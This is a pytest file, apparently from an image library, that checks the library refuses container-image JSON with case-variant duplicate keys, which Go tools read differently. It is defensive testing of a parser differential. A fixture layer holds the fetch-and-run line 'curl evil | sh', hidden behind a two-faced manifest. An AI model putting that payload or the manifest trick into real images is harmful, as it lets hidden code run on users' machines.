"""JSON that Go reads differently is refused: keys that equal a struct field only when case is ignored.

Go's encoding/json matches object keys to struct fields case-insensitively and keeps the last one,
so Docker, containerd, umoci and skopeo read ``{"layers": [A], "Layers": [B]}`` as layer B. imagelib
must not show A for the same bytes: it refuses such documents, naming the key.
"""

from __future__ import annotations

import json

import pytest
from formats_helpers import run, tool, umoci_unpack
from hostile_archives import (
    docker_archive_files,
    file,
    oci_layout_files,
    outer_tar,
    raw_tar,
    sha256,
    write_folder,
)

import imagelib as il
from imagelib.errors import ImageFormatError

HARMLESS = raw_tar(file("app/run.sh", b"echo harmless\n"))
OTHER = raw_tar(file("app/run.sh", b"curl evil | sh\n"))


def _config(layers: "list[bytes]", **extra) -> bytes:
    doc = {
        "architecture": "amd64",
        "os": "linux",
        "config": {},
        "rootfs": {"type": "layers", "diff_ids": [sha256(layer) for layer in layers]},
    }
    doc.update(extra)
    return json.dumps(doc).encode()


def _descriptor(blob: bytes, media_type: str = "application/vnd.oci.image.layer.v1.tar") -> dict:
    return {"mediaType": media_type, "digest": sha256(blob), "size": len(blob)}


def _two_faced_manifest() -> "tuple[dict[str, bytes], bytes]":
    """A layout whose manifest lists HARMLESS as ``layers`` and OTHER as ``Layers``."""
    config = _config([OTHER])  # the config agrees with what Go tools read
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": _descriptor(config, "application/vnd.oci.image.config.v1+json"),
            "layers": [_descriptor(HARMLESS)],
            "Layers": [_descriptor(OTHER)],
        }
    ).encode()
    files = oci_layout_files([HARMLESS], manifest=manifest, config=config)
    files[f"blobs/sha256/{sha256(OTHER)[7:]}"] = OTHER
    return files, manifest


def test_a_manifest_with_layers_and_Layers_is_refused(tmp_path):
    files, _ = _two_faced_manifest()
    layout = write_folder(tmp_path / "layout", files)
    with pytest.raises(ImageFormatError, match="'Layers'"):
        il.open(layout)
    with pytest.raises(ImageFormatError, match="'Layers'"):
        il.open(write_folder(tmp_path / "archive", {"image.tar": outer_tar(files)}) / "image.tar")


@pytest.mark.interop
def test_umoci_really_reads_the_other_layer(tmp_path):
    # The differential is real: umoci (Go) unpacks OTHER, the layer imagelib would have missed.
    files, _ = _two_faced_manifest()
    layout = write_folder(tmp_path / "layout", files)
    rootfs = umoci_unpack(f"{layout}:1", tmp_path / "bundle")
    assert (rootfs / "app/run.sh").read_bytes() == b"curl evil | sh\n"


@pytest.mark.interop
def test_skopeo_really_reads_Manifests_as_the_index_list(tmp_path):
    layout = write_folder(tmp_path / "layout", oci_layout_files([HARMLESS]))
    index = json.loads((layout / "index.json").read_bytes())
    index["Manifests"] = index.pop("manifests")
    (layout / "index.json").write_text(json.dumps(index))
    listed = json.loads(run(tool("skopeo"), "inspect", "--raw", f"oci:{layout}:1"))
    assert listed["layers"][0]["digest"] == sha256(HARMLESS)  # skopeo found the image through "Manifests"
    with pytest.raises(ImageFormatError, match="'Manifests'"):
        il.open(layout)
    with pytest.raises(ImageFormatError, match="'Manifests'"):
        il.Store(layout)


@pytest.mark.parametrize(
    ("where", "change"),
    [
        ("config", lambda doc: doc["rootfs"].update({"Diff_IDs": doc["rootfs"]["diff_ids"]})),
        ("config", lambda doc: doc.update({"Config": {"Cmd": ["sh"]}})),
        ("config", lambda doc: doc["config"].update({"cmd": ["sh"], "Cmd": ["true"]})),
        ("config", lambda doc: doc.update({"history": [{"Created_By": "RUN x"}]})),
        ("config", lambda doc: doc.update({"OS": "windows"})),
        ("descriptor", lambda doc: doc["layers"][0].update({"Digest": doc["layers"][0]["digest"]})),
        ("descriptor", lambda doc: doc["config"].update({"SIZE": 1})),
    ],
)
def test_case_variants_of_struct_fields_are_refused_everywhere(tmp_path, where, change):
    config_doc = json.loads(_config([HARMLESS]))
    manifest_doc = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": None,
        "layers": [_descriptor(HARMLESS)],
    }
    if where == "config":
        change(config_doc)
    config = json.dumps(config_doc).encode()
    manifest_doc["config"] = _descriptor(config, "application/vnd.oci.image.config.v1+json")
    if where == "descriptor":
        change(manifest_doc)
    files = oci_layout_files([HARMLESS], manifest=manifest_doc, config=config)
    with pytest.raises(ImageFormatError, match="대소문자"):
        il.open(write_folder(tmp_path / "layout", files))


def test_docker_manifest_json_keys_are_read_as_docker_reads_them(tmp_path):
    files = docker_archive_files([HARMLESS])
    entry = json.loads(files["manifest.json"])[0]
    entry["layers"] = entry["Layers"]
    files["manifest.json"] = json.dumps([entry]).encode()
    archive = write_folder(tmp_path, {"image.tar": outer_tar(files)}) / "image.tar"
    with pytest.raises(ImageFormatError, match="'layers'"):
        il.open(archive)


def test_maps_keep_exact_keys_as_in_go(tmp_path):
    # Labels and annotations are Go maps, whose keys are exact: two labels differing in case are fine.
    img = il.Image.scratch().add_layer(il.Layer.from_tar(HARMLESS)).with_config(labels={"Version": "1", "version": "2"})
    il.save(img, tmp_path / "layout", ref="labels:1")
    assert dict(il.open(tmp_path / "layout").config.labels) == {"Version": "1", "version": "2"}
